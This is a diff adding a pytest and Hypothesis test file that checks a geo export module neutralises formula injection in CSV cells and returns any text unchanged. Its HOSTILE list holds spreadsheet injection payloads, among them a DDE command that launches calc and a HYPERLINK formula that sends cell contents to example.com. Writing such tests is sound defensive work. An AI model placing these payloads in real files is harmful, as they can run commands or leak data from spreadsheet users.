@@ -1,0 +1,51 @@
+"""No spreadsheet runs what a cell says, and nothing of it is lost."""
+
+import csv
+import io
+from dataclasses import replace
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from geo.export.spreadsheet import FORMULA_SIGNS, read, written
+from geo.export.tables import SOURCES
+from tests.geo.export.orders import ORDERS
+
+HOSTILE = [
+    '=HYPERLINK("http://example.com?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "'=1+1",
+    "''",
+    'a"b;c,d\r\n=e',
+    "Итуруп, 択捉島",
+]
+
+
+def table_with(text: str) -> bytes:
+    """The table of sources, with a title that nobody has checked."""
+    order = ORDERS["en"]
+    key, source = next(iter(order.content.sources.items()))
+    content = replace(order.content, sources={key: source.model_copy(update={"title": text})})
+    return written(SOURCES, SOURCES.rows(replace(order, content=content)))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_formula_is_text_to_a_spreadsheet(text: str) -> None:
+    (row,) = csv.DictReader(io.StringIO(table_with(text).decode("utf-8-sig"), newline=""))
+    assert not row["source_title"].startswith(FORMULA_SIGNS)
+    (row,) = read(table_with(text))
+    assert row["source_title"] == text
+
+
+@given(st.text(st.characters(codec="utf-8")))
+def test_any_text_comes_back(text: str) -> None:
+    (row,) = read(table_with(text))
+    assert row["source_title"] == text
